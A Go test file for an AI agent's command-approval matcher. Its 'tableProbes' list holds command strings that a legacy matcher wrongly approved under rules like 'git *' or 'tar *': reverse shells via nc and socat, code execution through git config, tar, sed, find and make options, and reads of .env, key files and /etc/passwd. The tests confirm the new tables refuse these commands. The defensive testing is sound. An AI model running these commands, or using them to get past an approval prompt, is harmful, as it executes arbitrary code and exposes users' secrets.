package approval

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

// The tests of T11: a pattern over a program matches only what the
// program's table classifies. Each case was found approved by the matcher
// of TablesLegacy (the probes), or is a variant of one.

func matchAt(tables int, rules []Rule, script string) bool {
	return MatchAt(tables, rules, KindCommand, "run_command", cmdArgs(script))
}

// tablesApproved are the scripts of scripts that rules approve with tables.
func tablesApproved(tables int, rules []Rule, scripts []string) []string {
	var out []string
	for _, s := range scripts {
		if matchAt(tables, rules, s) {
			out = append(out, s)
		}
	}
	return out
}

// tableProbes: under its rule, no script here may match.
var tableProbes = []struct {
	rule    string
	scripts []string
}{
	{"git *", []string{
		// the probe: git 2.39 reads `git config NAME VALUE VALUE-PATTERN` as a write
		"git -C w2 config diff.external 'echo PWNED > PWN_DIFF;:' get && git -C w2 diff --no-index a b",
		"git config diff.external 'echo PWNED > PWN_DIFF;:' get",
		// every write form of git-config(1), 2.39
		"git config diff.external id", "git config diff.x.textconv id get", "git config diff.x.command id '^$'",
		"git config filter.x.clean id get", "git config filter.x.smudge id", "git config filter.x.process id x",
		"git config merge.x.driver id get", "git config include.path evil.cfg get", "git config includeIf.onbranch:x.path y",
		"git config core.pager id", "git config core.sshCommand id", "git config core.fsmonitor id", "git config core.hooksPath h",
		"git config alias.x '!id'", "git config --add core.pager id", "git config --replace-all core.pager id get",
		"git config --replace-all core.pager id", "git config --unset core.pager", "git config --unset core.pager x",
		"git config --unset-all core.pager", "git config --rename-section a b", "git config --remove-section a",
		"git config -e", "git config --edit", "git config --file x core.pager id", "git config -f x core.pager id",
		"git config --local core.pager id", "git config --worktree core.pager id", "git config --global core.pager id",
		"git config --system core.pager id", "git config --type=bool core.x true", "git config --bool core.x true",
		"git config --int core.x 1", "git config --path core.x y", "git config --null core.pager id",
		"git config --fixed-value core.pager id x", "git config --get-color", "git config --get core.pager id x y",
		"git config --list core.pager id", "git config --get-regexp a b c", "git config --add --get core.pager id",
		"git config --get --unset core.pager", "git config --get --replace-all core.pager id x",
		"git config --get --edit", "git config --get --rename-section a b", "git config --blob HEAD core.pager id",
		"git config", "git config --get", "git config --list --edit", "git config --get=core.pager",
		"git config alias.x --get-regexp", "git config core.pager --get", "git config diff.external id --get",
		// the diff and log forms that run configured programs, the global forms
		"git diff --ext-diff", "git diff --textconv a b", "git log -p --ext-diff", "git show --textconv HEAD",
		"git -c diff.external=id diff", "git --config-env=core.pager=X log", "git diff --output=../x",
		"git log --output=/tmp/x", "git difftool", "git mergetool", "git -p log", "git --paginate log",
		"git commit", "git commit -e -m x", "git commit -c HEAD", "git commit --template=x -m y",
		"git add -p", "git add -i", "git add -e", "git add -f .env.local", "git add --force x",
		"git rebase -i HEAD~1", "git submodule foreach id", "git bisect run id", "git fetch", "git pull",
		"git push", "git clone ext::sh a", "git -C /tmp status", "git status --exec=id", "git log --ext",
		// files of the repository that hold keys, read through a revision
		"git show HEAD:.npmrc", "git show HEAD:secrets.yml", "git show :.env", "git log -p HEAD:id_ed25519",
		"git show HEAD:.git/config", "git diff --no-index dir1 dir2", "git log -L1,5:.npmrc",
		"git log -L :main:secrets.yml", "git log -L1,2:/etc/passwd",
	}},
	{"tar *", []string{
		// the probe: the first word is an option cluster, dash or not
		"tar xIf 'sh -c id>PWN_TAR' a.tar", "tar xIf id a.tar", "tar -xIf id a.tar", "tar xvIf id a.tar",
		"tar Ixf id a.tar", "tar xFf id a.tar", "tar tFf id a.tar", "tar xf a.tar -Iid", "tar -I id -xf a.tar",
		"tar x --to-command=id -f a.tar", "tar x --to-com=id -f a.tar", "tar --to-c id -xf a.tar",
		"tar xf a.tar --checkpoint=1 --checkpoint-action=exec=id", "tar xf a.tar --checkpoint-act=exec=id",
		"tar --use-compress-program=id -xf a.tar", "tar --use=id -xf a.tar", "tar xf a.tar --info-script=id",
		"tar xf a.tar --info=id", "tar xf a.tar --new-volume-script=id", "tar xf a.tar --new-v=id", "tar xMf a.tar",
		"tar xf a.tar --rsh-command=id", "tar xf a.tar --rmt-command=id", "tar xf a.tar --rsh=id",
		// an archive with : is a remote one: tar runs rsh
		"tar xf host:a.tar", "tar -xf host:a.tar", "tar --file=host:a.tar -x", "tar -x --file host:a.tar",
		"tar xfhost:a.tar", "tar -xfhost:a.tar", "tar xf h:a.tar --rsh-command=/bin/sh --force-local",
		// out of the workdir, from the environment
		"tar xf a.tar -P", "tar xPf a.tar", "tar xf a.tar --absolute-names", "tar xf a.tar -C /", "tar xf /tmp/a.tar",
		"TAR_OPTIONS=--to-command=id tar xf a.tar", "env TAR_OPTIONS=-Iid tar xf a.tar", "tar xf a.tar --bogus",
		// create reads every file under its operands, key files included
		"tar cf out.tar .", "tar czf - src", "tar -cO .", "tar rf a.tar x", "tar --create -f out.tar src",
	}},
	{"split *", []string{"split --filter=id a", "split --filter 'sh -c id' a", "split --fil=id a", "split -l 1 --filter=id a",
		"split --f=id a", "split a /tmp/x", "split a ../x"}},
	{"sort *", []string{"sort --compress-program=id a", "sort --compress=id -S 1 a", "sort --com=id a", "sort --files0-from=x",
		"sort -o /tmp/x a", "sort --output=../x a", "sort -T /tmp a"}},
	{"tcpdump *", []string{"tcpdump -z id -w x", "tcpdump -i lo"}},
	{"ssh-keygen *", []string{"ssh-keygen -D ./x.so", "ssh-keygen -l -f x.pub"}},
	{"socat *", []string{"socat - EXEC:id", "socat TCP:h:1 SYSTEM:id"}},
	{"nc *", []string{"nc -e /bin/sh h 1", "nc -c id h 1", "nc h 1"}},
	{"grep *", []string{
		// content reads that reach key files no word names
		"grep -r KEY .", "grep -R KEY .", "grep --recursive KEY .", "grep --recur KEY .", "grep -rn KEY", "grep -nri KEY .",
		"grep KEY -r .", "grep --include='.e*' -r KEY .", "grep --include=.env KEY x", "grep --incl=id_rsa -r x .",
		"grep -d recurse KEY .", "grep -drecurse KEY .", "grep --directories=recurse KEY .", "grep --dir=recurse KEY .",
		"grep --dereference-recursive KEY .", "grep --deref KEY .", "grep -E -r KEY src", "grep --exclude=x -r KEY .",
		"grep -f .env x", "grep KEY .env", "grep KEY *", "grep KEY id_rsa", "grep KEY -- -r", "grep --devices=read x /dev/x",
	}},
	{"sed *", []string{
		"sed e", "sed '1e id' a", "sed 's/x/id/e' a", "sed 's/x/y/w out' a", "sed 'w out' a", "sed 'W out' a",
		"sed 'r /etc/passwd' a", "sed 'R x' a", "sed -n '/x/w out' a", "sed -e 's/a/b/;e id' a", "sed --expression='1e id' a",
		"sed --expr='1e id' a", "sed -f script.sed a", "sed --file=x a", "sed 's/a/b/gw out' a", "sed '$!{e id\n}' a",
		"sed 'y/a/b/;e id' a", "sed '1!e id' a", "sed 's|a|b|e' a", "sed 's/a/b/3e' a", "sed 's/a/b/ge' a",
		"sed -e p -e 'e id' a", "sed '/x/,/y/ e id' a", "sed '1~2e id' a", "sed 's/[/]/x/e' a", "sed 's/a\\/b/c/e' a",
		"sed -E 's,a,b,w x' a", "sed '#n\ne id' a", "sed ':a;e id' a", "sed 'b end;e id;:end' a", "sed -s 'F;e id' a",
		"sed 's/a/b/\ne id' a", "sed '{e id}' a", "sed 's/a/b/;;e' a", "sed 'a x\ne id' a", "sed -i.bak 's/a/b/' /tmp/x",
		"sed 's/a/b/ w x' a", "sed 's/a/b/m e' a", "sed 'v;e id' a", "sed 'bl e id' a", "sed ':a e id' a", "sed 'tx;Tx w o' a",
		"sed 'bx#;e id' a", "sed 'v 4.2 e id' a", "sed 'ee' a", "sed --debug 'e id' a", "sed -n",
	}},
	{"awk *", []string{"awk 'BEGIN{system(\"id\")}'", "awk '{print}' a", "awk -f x.awk a", "awk -- '{print}' a",
		"awk '{print > \"x\"}' a", "awk 'BEGIN{\"id\"|getline}'"}},
	{"mawk *", []string{"mawk 'BEGIN{system(\"id\")}'", "mawk '{print}' a"}},
	{"find *", []string{"find . -exec id ;", "find . -execdir id ;", "find . -ok id ;", "find . -okdir id ;",
		"find . -exe id ;", "find . -newer x -exec id {} +", "find -D exec .", "find . -fprint /tmp/x",
		"find . -fls ../x", "find / -name x", "find . -name x -delete -o -exec id ;", "find . -printf x -exec id ;"}},
	{"make *", []string{"make --eval='x:=$(shell id)'", "make -E 'x:=$(shell id)'", "make --eval x", "make --ev x",
		"make -f /dev/stdin", "make SHELL=id", "make 'X=$(shell id)' build", "make -C / x", "make -f /tmp/x", "make --file=/tmp/x"}},
	{"npm *", []string{"npm --script-shell=id run build", "npm run build --script-shell id", "npm exec id", "npm x id",
		"npm run build --scri=id", "npm install evil", "npm i x", "npm ci", "npm --node-options=x test", "npm explore x -- id"}},
	{"npx *", []string{"npx id", "npx -c id"}},
	{"python3 *", []string{"python3 -c 'import os'", "python3", "python3 -m pip install x", "python3 -", "python3 /tmp/x.py",
		"python3 ../x.py", "python3 -X importtime -c x",
		"python3 -W ignore::antigravity.X a.py", "python3 -Werror::evil.W a.py"}},
	{"node *", []string{"node -e 1", "node --eval 1", "node -p 1", "node -r x a.js", "node --require=x a.js", "node --import x a.js",
		"node --loader x a.js", "node /tmp/a.js", "node"}},
	{"go *", []string{"go test -exec id ./...", "go test -toolexec=id ./...", "go build -ldflags=-extld=id .",
		"go run example.com/x@latest", "go install example.com/x@latest", "go env -w GOFLAGS=-toolexec=id", "go generate ./...",
		"go test -overlay x ./...", "go tool x", "go vet -vettool=id ./..."}},
	{"ls *", []string{"ls --hyperlink=x /", "ls /", "ls ../", "ls --bogus"}},
	{"cat *", []string{"cat .env", "cat /etc/passwd", "cat --bogus a"}},
	{"cd *", []string{"cd a b", "cd", "cd /", "cd ..", "cd .git", "cd -"}},
	{"diff *", []string{"diff -r a b", "diff --recursive a b", "diff -N a b", "diff --from-file=a -r b", "diff --to-file=/tmp a",
		"diff apps/a apps/b", "diff a.txt b.txt"}},
}

// TestTablesRefuseTheProbes: every probe and its variants, under the rule
// over its program, asks with the tables (T11). TablesLegacy approved
// some of each group.
func TestTablesRefuseTheProbes(t *testing.T) {
	for _, p := range tableProbes {
		require.Empty(t, tablesApproved(TablesV2, cmdRules(p.rule), p.scripts), "under %q", p.rule)
	}
	legacy := 0
	for _, p := range tableProbes {
		legacy += len(tablesApproved(TablesLegacy, cmdRules(p.rule), p.scripts))
	}
	require.Greater(t, legacy, 100, "the legacy matcher approved these")
}

// TestTablesMatch: ordinary commands of tabled programs still match.
func TestTablesMatch(t *testing.T) {
	cases := []struct {
		rule    string
		scripts []string
	}{
		{"git *", []string{"git status", "git status --porcelain=v1", "git status -sb", "git log --oneline -5", "git log -n 3 --stat",
			"git diff", "git diff --cached --stat", "git diff HEAD~1 -- src", "git show HEAD --stat", "git -C sub status",
			"git --no-pager log", "git config --get user.name", "git config -l", "git config --list --show-origin",
			"git config --get-regexp '^remote'", "git config --get-all remote.origin.url", "git config --get core.pager x",
			"git rev-parse --abbrev-ref HEAD", "git rev-parse --show-toplevel", "git branch -a", "git branch --show-current",
			"git ls-files -m", "git add -u", "git add -A", "git add src/a.go", "git commit -m 'a message'", "git commit -am x",
			"git blame -L 1,5 a.go", "git show HEAD:src/a.go", "git diff HEAD:a.go b.go", "git describe --tags --always", "git log --format=%H -1", "git log -L1,5:a.go", "git log -L :main:src/a.go", "git log --pretty=oneline"}},
		{"tar *", []string{"tar xzf a.tgz", "tar -xzf a.tgz", "tar tf a.tar", "tar tvf a.tar", "tar xf h:a.tar --force-local",
			"tar --extract --file a.tar", "tar --ext --file=a.tar", "tar --extr --verbo --gunz --file=a.tar", "tar xf a.tar -C out", "tar -x -f a.tar -C out --strip-components=1",
			"tar xjf a.tbz", "tar -tzf a.tgz", "tar xf a.tar --exclude='*.md'", "tar -xvf a.tar"}},
		{"split *", []string{"split -l 10 a part.", "split -b 1M a", "split --lines=5 a"}},
		{"sort *", []string{"sort -u a", "sort -o out.txt a", "sort -k 2,2 -t , a", "sort --rev a", "sort -n -r a b"}},
		{"grep *", []string{"grep -n foo a.go", "grep -E 'a|b' src/x.go", "grep -c x a", "grep --count x a", "grep --cou x a",
			"grep -e a -e b a", "grep -i -- -x a", "grep -A 2 x a", "grep -C2 x a", "grep -l x a b", "grep --color=never x a"}},
		{"sed *", []string{"sed 's/a/b/g' a", "sed -n '1,5p' a", "sed -E 's/(a)/\\1/' a", "sed '/x/d' a", "sed -i 's/a/b/' a.go",
			"sed -e 's/a/b/' -e '/c/d' a", "sed '1i\\\nhello' a", "sed '$!N;s/\\n/ /' a", "sed 'y/abc/xyz/' a",
			"sed -n '/start/,/end/{p;}' a", "sed 's|/usr|/opt|2' a", "sed '1~2d' a", "sed '$d' a", "sed = a", "sed 's/a/b/I' a",
			"sed -n 'l 40' a", "sed 'q5' a"}},
		{"find *", []string{"find . -name '*.go'", "find src -type f -print", "find . -fprint out.txt", "find . -maxdepth 1 -type d",
			"find . \\( -name a -o -name b \\) -print", "find . ! -name x", "find . -newer a.go", "find -L . -name x",
			"find . -name x -delete", "find . -printf '%p\\n'"}},
		{"cat *", []string{"cat a b", "cat -n a", "cat --number a"}},
		{"head *", []string{"head -5 a", "head -n 5 a", "head -c 10 a", "head --lines=5 a"}},
		{"tail *", []string{"tail -n +5 a", "tail -f a", "tail -20 a"}},
		{"wc *", []string{"wc -l a", "wc a b"}},
		{"ls *", []string{"ls", "ls -la src/", "ls -R", "ls --color=auto", "ls -- ?.txt", "ls src/?.go"}},
		{"make *", []string{"make", "make build", "make -j4 test", "make -C sub build", "make -n"}},
		{"npm *", []string{"npm run build", "npm test", "npm run lint -- --fix"}},
		{"python3 *", []string{"python3 tool.py", "python3 -u tool.py --flag x", "python3 scripts/a.py -c x"}},
		{"node *", []string{"node a.js", "node a.js -e x"}},
		{"go *", []string{"go test ./...", "go test -run TestX -count=1 ./approval/", "go build ./...", "go vet ./...",
			"go test -race -v .", "go build -o bin/x ./cmd/x", "go version", "go env GOPATH"}},
		{"echo *", []string{"echo hi", "echo -n x"}},
		{"cd *", []string{"cd sub", "cd src/x"}},
	}
	for _, c := range cases {
		var refused []string
		for _, s := range c.scripts {
			if !matchAt(TablesV2, cmdRules(c.rule), s) {
				refused = append(refused, s)
			}
		}
		require.Empty(t, refused, "under %q", c.rule)
	}
}

// TestTablesUntabledProgramsNeverMatch: a pattern over a program without a
// table is no valid pattern, and a stored one matches nothing; an exact
// rule still matches its command.
func TestTablesUntabledProgramsNeverMatch(t *testing.T) {
	for _, p := range []string{"rm *", "curl *", "id", "./build.sh", "'my tool' *", "tcpdump *", "nc *", "socat *", "diff *"} {
		require.Error(t, ValidatePatternAt(TablesV2, KindCommand, "run_command", p), p)
		require.NoError(t, ValidatePatternAt(TablesLegacy, KindCommand, "run_command", p), p)
	}
	require.False(t, matchAt(TablesV2, cmdRules("rm *"), "rm x"))
	require.True(t, matchAt(TablesLegacy, cmdRules("rm *"), "rm x"))
	require.True(t, matchAt(TablesV2, []Rule{{Tool: "run_command", Args: cmdArgs("rm x")}}, "rm x"))
	for _, p := range []string{"git *", "tar *", "go test ./...", "bash build.sh", "/usr/bin/git *"} {
		require.NoError(t, ValidatePatternAt(TablesV2, KindCommand, "run_command", p), p)
	}
	_, err := RememberAt(TablesV2, KindCommand, "run_command", cmdArgs("rm x"), "rm *")
	require.Error(t, err)
	_, err = RememberAt(TablesLegacy, KindCommand, "run_command", cmdArgs("rm x"), "rm *")
	require.NoError(t, err)
}

// TestTablesPolicyVersion: Needs reads the version of its Policy; zero is
// the legacy matcher, as rounds recorded before T11 ran.
func TestTablesPolicyVersion(t *testing.T) {
	probe := Call{Tool: "run_command", Args: cmdArgs("tar xIf 'sh -c id>PWN_TAR' a.tar")}
	rules := cmdRules("tar *")
	require.False(t, needsTool(probe, Policy{Rules: rules}).Ask)
	require.False(t, needsTool(probe, Policy{Rules: rules, Tables: TablesLegacy}).Ask)
	require.True(t, needsTool(probe, Policy{Rules: rules, Tables: TablesV2}).Ask)
	require.False(t, needsTool(Call{Tool: "run_command", Args: cmdArgs("tar xf a.tar")}, Policy{Rules: rules, Tables: TablesV2}).Ask)
}

// TestTablesEnvironment: TAR_OPTIONS and GIT_* in a command's environment
// ask, as any variable that loads configuration.
func TestTablesEnvironment(t *testing.T) {
	rules := cmdRules("tar *", "git *")
	require.Empty(t, tablesApproved(TablesV2, rules, []string{"TAR_OPTIONS=-Iid tar xf a.tar", "env TAR_OPTIONS=x tar tf a",
		"GIT_EXTERNAL_DIFF=id git diff", "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=id git log",
		"env GIT_DIR=x git status", "GIT_PAGER=id git log"}))
}

// TestTablesExpandingWords: a word the shell expands is an operand only,
// never where it could become an option (a file named --to-command=...).
func TestTablesExpandingWords(t *testing.T) {
	rules := cmdRules("tar *", "cat *", "grep *")
	require.Empty(t, tablesApproved(TablesV2, rules, []string{"tar xf *", "cat *", "cat ?", "grep x [a-z]*", "tar xf a.tar *"}))
	require.Empty(t, tablesApproved(TablesV2, rules, []string{"cat src/*.go"}), "secrets.go")
	require.Len(t, tablesApproved(TablesV2, rules, []string{"cat docs/a?.md", "cat -- ?.txt", "grep x ./b*.txt"}), 3)
}

// TestReadOnlyCommand: the classification rule scopes are to read: a command of
// pure programs without write forms is read-only.
func TestReadOnlyCommand(t *testing.T) {
	for _, s := range []string{"git status", "git log -p", "cat a | grep x", "sed -n 1p a", "find . -name x", "tar tf a.tar",
		"ls -la > /dev/null", "sort -u a", "grep -c x a && wc -l a"} {
		require.True(t, ReadOnlyCommand(s), s)
	}
	for _, s := range []string{"sort -o out a", "find . -fprint x", "sed -i s/a/b/ a", "tar xf a.tar", "split a",
		"git add x", "git commit -m x", "git diff --output=x", "cat a > b", "make", "go test ./...", "python3 a.py", "rm x", "tar xIf id a.tar",
		"find . -delete", "npm test"} {
		require.False(t, ReadOnlyCommand(s), s)
	}
}

// TestRulePrograms: the programs a rule may start (an execve oracle checks a
// command's execve calls against them).
func TestRulePrograms(t *testing.T) {
	progs, class, ok := RulePrograms("tar *")
	require.True(t, ok)
	require.Equal(t, ClassPure, class)
	require.Contains(t, progs, "tar")
	require.Contains(t, progs, "gzip")
	_, class, ok = RulePrograms("make build")
	require.True(t, ok)
	require.Equal(t, ClassRunsWorkspaceCode, class)
	_, class, _ = RulePrograms("sed *")
	require.Equal(t, ClassScripted, class)
	_, _, ok = RulePrograms("rm *")
	require.False(t, ok)
}

// TestTablesCiteTheirManual: every table names the version and manual it
// was written from.
func TestTablesCiteTheirManual(t *testing.T) {
	for name, p := range programTables {
		require.NotEmpty(t, p.Cite, name)
		require.NotEmpty(t, p.Class, name)
	}
}

// TestLegacyRefusalsHoldWithTables: what the tests written for the legacy
// matcher refuse, TablesV2 refuses too.
func TestLegacyRefusalsHoldWithTables(t *testing.T) {
	testTables = TablesV2
	defer func() { testTables = TablesLegacy }()
	TestShellNeverOverMatches(t)
	TestShellsRunOnlyWhatWasApproved(t)
	TestShellLimits(t)
	TestCommandArgsShape(t)
	TestExactRules(t)
	TestWhichReportsEveryRuleUsed(t)
	requireNoneMatch(t, gitWriteRules, gitDirWrites)
}

// TestTablesAgreeWithTheirHelp: every long option a table lists is one of
// its program's --help of the cited version, so an abbreviation is read
// against the program's whole list.
func TestTablesAgreeWithTheirHelp(t *testing.T) {
	for name, p := range programTables {
		p.init()
		if p.Longs == "" {
			continue
		}
		help := setOf(strings.Fields(p.Longs)...)
		for n := range p.byName {
			if l, ok := strings.CutPrefix(n, "--"); ok {
				require.True(t, help[l], "%s --%s is not in its --help", name, l)
			}
		}
	}
}
